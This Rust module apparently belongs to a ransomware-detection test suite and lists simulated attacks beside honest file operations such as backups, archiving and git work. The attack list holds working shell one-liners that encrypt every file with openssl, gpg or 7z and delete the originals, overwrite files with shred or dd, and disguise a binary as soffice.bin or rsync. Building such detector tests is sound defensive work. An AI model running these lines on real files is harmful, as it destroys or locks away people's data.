//! Who acts: attacks as families of ransomware carry them out, and honest work that looks a little like them. Each is one
//! line for `sh`: `$1` is the folder of documents, `$2` our own program of acts, `$3` a folder that nobody guards.

/// One actor.
pub(super) struct Actor {
    /// What it is called.
    pub(super) name: &'static str,
    /// What it does.
    pub(super) line: &'static str,
    /// Programs that it needs.
    pub(super) tools: &'static [&'static str],
    /// Whether it means no harm.
    pub(super) honest: bool,
}

const fn attack(name: &'static str, line: &'static str, tools: &'static [&'static str]) -> Actor {
    Actor { name, line, tools, honest: false }
}

const fn honest(name: &'static str, line: &'static str, tools: &'static [&'static str]) -> Actor {
    Actor { name, line, tools, honest: true }
}

/// The attacks.
pub(super) const ATTACKS: &[Actor] = &[
    attack("in-place", r#"exec "$2" act in-place "$1""#, &[]),
    attack("new-and-unlink", r#"exec "$2" act new-and-unlink "$1""#, &[]),
    attack("unlink-and-new", r#"exec "$2" act unlink-and-new "$1""#, &[]),
    attack("rename-over", r#"exec "$2" act rename-over "$1""#, &[]),
    attack("rename-first", r#"exec "$2" act rename-first "$1""#, &[]),
    attack("meaningless-names", r#"exec "$2" act meaningless-names "$1""#, &[]),
    attack("intermittent", r#"exec "$2" act intermittent "$1""#, &[]),
    attack("intermittent-no-header", r#"exec "$2" act intermittent-no-header "$1""#, &[]),
    attack("header-only", r#"exec "$2" act header-only "$1""#, &[]),
    attack("slow", r#"exec "$2" act in-place "$1" --pause-ms 700"#, &[]),
    attack("shuffled", r#"exec "$2" act in-place "$1" --shuffled"#, &[]),
    attack("mmap", r#"exec "$2" act mmap "$1""#, &[]),
    attack("mmap-held", r#"exec "$2" act mmap-held "$1""#, &[]),
    attack("all-open", r#"exec "$2" act all-open "$1""#, &[]),
    attack("base64", r#"exec "$2" act base64 "$1""#, &[]),
    attack("hex", r#"exec "$2" act hex "$1""#, &[]),
    attack("base64-new", r#"exec "$2" act base64-new "$1""#, &[]),
    attack("short-key", r#"exec "$2" act short-key "$1""#, &[]),
    attack("wiper-zeros", r#"exec "$2" act zeros "$1""#, &[]),
    attack("wiper-random", r#"exec "$2" act noise "$1""#, &[]),
    attack("wiper-spaces", r#"exec "$2" act spaces "$1""#, &[]),
    attack("truncate", r#"exec "$2" act truncate "$1""#, &[]),
    attack("truncate-short", r#"exec "$2" act truncate-short "$1""#, &[]),
    attack("delete-only", r#"exec "$2" act delete "$1" --pause-ms 1"#, &[]),
    attack("archive-and-delete", r#"exec "$2" act archive-and-delete "$1" --pause-ms 1"#, &[]),
    attack("many-process", r#"for n in 0 1 2 3 4 5 6 7; do "$2" act in-place "$1" --part "$n/8" & done; wait"#, &[]),
    attack(
        "short-lived-children",
        r#"find "$1" -type f | sort | while read -r f; do "$2" act new-and-unlink --one "$f" "$1"; done"#,
        &[],
    ),
    attack("masquerade-office", r#"cp "$2" "$3/soffice.bin" && exec "$3/soffice.bin" act rename-over "$1""#, &[]),
    attack("masquerade-rsync", r#"cp "$2" "$3/rsync" && exec "$3/rsync" act in-place "$1""#, &[]),
    attack(
        "openssl",
        r#"find "$1" -type f | while read -r f; do openssl enc -aes-256-ctr -k chiave -iter 1 -in "$f" -out "$f.enc" && rm "$f"; done"#,
        &["openssl"],
    ),
    attack(
        "find-exec-openssl",
        r#"find "$1" -type f -exec openssl enc -aes-256-cbc -k chiave -iter 1 -in {} -out {}.x \; -exec mv {}.x {} \;"#,
        &["openssl"],
    ),
    attack(
        "openssl-base64",
        r#"find "$1" -type f | while read -r f; do openssl enc -aes-256-ctr -a -k chiave -iter 1 -in "$f" -out "$f.x" && mv "$f.x" "$f"; done"#,
        &["openssl"],
    ),
    attack(
        "gpg",
        r#"find "$1" -type f | while read -r f; do gpg --batch --yes --quiet --pinentry-mode loopback --passphrase chiave --s2k-count 1024 -c "$f" && rm "$f"; done"#,
        &["gpg"],
    ),
    attack("7z-each", r#"find "$1" -type f -exec 7z a -pchiave -mx=1 -bso0 -bsp0 {}.7z {} \; -exec rm {} \;"#, &["7z"]),
    attack(
        "7z-all-and-delete",
        r#"7z a -pchiave -mx=1 -bso0 -bsp0 "$1/tutto.7z" "$1"/* && find "$1" -type f ! -name tutto.7z -exec rm {} \;"#,
        &["7z"],
    ),
    attack("find-exec-shred", r#"find "$1" -type f -exec shred -n 1 -u {} \;"#, &["shred"]),
    attack(
        "dd-header",
        r#"find "$1" -type f | while read -r f; do dd if=/dev/urandom of="$f" bs=512 count=4 conv=notrunc; done"#,
        &["dd"],
    ),
    attack("find-delete", r#"find "$1" -type f -exec rm {} \;"#, &[]),
];

/// Honest work.
pub(super) const HONEST: &[Actor] = &[
    honest("tar-keeping", r#"tar -C "$1" -czf "$1/Protocollo 2026.tar.gz" Protocollo Tributi"#, &["tar"]),
    honest("zip-keeping", r#"cd "$1" && zip -qr Tributi.zip Tributi Anagrafe"#, &["zip"]),
    honest("7z-keeping", r#"7z a -bso0 -bsp0 "$1/Ragioneria.7z" "$1/Ragioneria" "$1/Tributi""#, &["7z"]),
    honest(
        "rsync-backup",
        r#"rsync -a "$1/" "$3/copia/" && rsync -a --delete "$1/Tributi/" "$1/copia Tributi/" && rsync -a --delete "$1/Tributi/" "$1/copia Tributi/""#,
        &["rsync"],
    ),
    honest("cp-backup", r#"cp -a "$1" "$3/copia" && cp -a "$1/Tributi" "$1/Tributi copia""#, &[]),
    honest(
        "git",
        r#"set -e; mkdir "$1/progetto"; cd "$1/progetto"; git init -q; git config user.email a@b.example; git config user.name A; cp ../*/*.csv ../*/*.txt .; git add .; git commit -qm uno; git checkout -qb altro; for f in *.csv; do echo "nuova;riga" >> "$f"; done; git commit -qam due; git rm -q *.txt; git commit -qm tre; git checkout -q -; git checkout -q altro; git gc -q --prune=now; git clone -q . ../clone"#,
        &["git"],
    ),
    honest("office-save", r#"exec "$2" act save "$1" --pause-ms 5"#, &[]),
    honest("office-save-with-backup", r#"exec "$2" act save-with-backup "$1" --pause-ms 5"#, &[]),
    honest(
        "bulk-rename",
        r#"find "$1" -type f | while read -r f; do mv "$f" "$(dirname "$f")/2026 - $(basename "$f")"; done"#,
        &[],
    ),
    honest("bulk-rename-extension", r#"find "$1" -type f | while read -r f; do mv "$f" "$f.archiviato"; done"#, &[]),
    honest(
        "unzip",
        r#"cd "$1" && zip -qr "$3/a.zip" . && mkdir nuovo && cd nuovo && unzip -q "$3/a.zip""#,
        &["zip", "unzip"],
    ),
    honest(
        "sqlite",
        r#"cd "$1" && for j in delete truncate wal; do sqlite3 registro-$j.db "pragma journal_mode=$j; create table t(a,b); with recursive c(n) as (select 1 union all select n+1 from c where n<20000) insert into t select n, hex(randomblob(40)) from c; update t set b=hex(randomblob(50)) where a%3=0; delete from t where a%2=0; vacuum;" >/dev/null || exit 1; done"#,
        &["sqlite3"],
    ),
    honest("maildir", r#"exec "$2" act maildir "$1""#, &[]),
    honest("mbox", r#"exec "$2" act mbox "$1""#, &[]),
    honest(
        "log-rotation",
        r#"set -e; mkdir "$1/log"; cd "$1/log"; for n in 1 2 3 4 5 6 7 8 9 10 11 12; do i=0; while [ $i -lt 300 ]; do echo "22/11/2026 08:00:$i servizio $n: richiesta accolta"; i=$((i+1)); done > app$n.log; done; for r in 1 2 3; do for f in *.log; do [ ! -e "$f.2.gz" ] || mv "$f.2.gz" "$f.3.gz"; [ ! -e "$f.1.gz" ] || mv "$f.1.gz" "$f.2.gz"; cp "$f" "$f.1"; : > "$f"; gzip "$f.1"; echo "nuova riga dopo la rotazione numero $r" >> "$f"; done; done"#,
        &["gzip"],
    ),
    honest("gzip-logs", r#"find "$1" -name '*.csv' -exec gzip {} \;"#, &["gzip"]),
    honest("delete-old-folder", r#"rm -r "$1/Tributi""#, &[]),
    honest("delete-two-old-folders", r#"rm -r "$1/Anagrafe" "$1/Ragioneria""#, &[]),
    honest("delete-in-one-folder", r#"rm "$1"/Protocollo/Delibera*"#, &[]),
    honest("archive-old-folder", r#"tar -C "$1" -czf "$1/Tributi.tar.gz" Tributi && rm -r "$1/Tributi""#, &["tar"]),
    honest(
        "sed-all-texts",
        r#"find "$1" -type f \( -name '*.txt' -o -name '*.csv' \) -exec sed -i 's/giunta/consiglio/; s/Rossi/Bianchi/' {} +"#,
        &["sed"],
    ),
    honest(
        "line-ends",
        r#"find "$1" -type f \( -name '*.txt' -o -name '*.csv' \) | while read -r f; do sed 's/\r$//' "$f" > "$3/x" && cat "$3/x" > "$f"; done"#,
        &["sed"],
    ),
    honest("formatter", r#"exec "$2" act format "$1""#, &[]),
    honest("thumbnails", r#"exec "$2" act thumbnails "$1""#, &[]),
    honest("resize-in-place", r#"exec "$2" act retouch "$1""#, &[]),
    honest("import-photographs", r#"exec "$2" act import "$1""#, &[]),
    honest(
        "gpg-one-kept",
        r#"cd "$1/Protocollo" && for f in *001*; do gpg --batch --quiet --pinentry-mode loopback --passphrase chiave -c "$f"; done; ls *.gpg || cd ../Anagrafe; true"#,
        &["gpg"],
    ),
    honest(
        "compile",
        r#"mkdir "$1/src" && cd "$1/src" && for n in 1 2 3 4 5; do echo "int f$n(int a){return a+$n;}" > f$n.c; gcc -c f$n.c || exit 1; done && ar rc lib.a *.o && rm *.o"#,
        &["gcc"],
    ),
    honest(
        "move-into-one-folder",
        r#"mkdir "$1/Tutto" && find "$1/Protocollo" "$1/Tributi" -type f -exec mv {} "$1/Tutto/" \;"#,
        &[],
    ),
    honest(
        "grep-and-hash",
        r#"grep -rl giunta "$1" >/dev/null; find "$1" -type f -exec sha256sum {} + >/dev/null"#,
        &[],
    ),
];
